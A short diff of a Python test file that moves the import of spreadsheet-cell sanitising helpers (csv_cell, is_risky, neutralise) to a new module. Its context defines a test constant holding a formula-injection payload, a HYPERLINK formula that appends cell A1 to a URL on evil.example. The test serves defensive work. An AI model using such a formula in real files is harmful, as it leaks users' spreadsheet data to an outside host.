@@ -13,7 +13,7 @@ from openpyxl import Workbook, load_workbook
 from tests import hostile as h
 from tests.web.conftest import FORM, OWN, PERIOD, WebEnv, csrf, make_env
 
-from chitieu.web.cells import csv_cell, is_risky, neutralise
+from chitieu.interop.cells import csv_cell, is_risky, neutralise
 
 ENTRY = f"/entry/{FORM}/{OWN}/{PERIOD}"
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
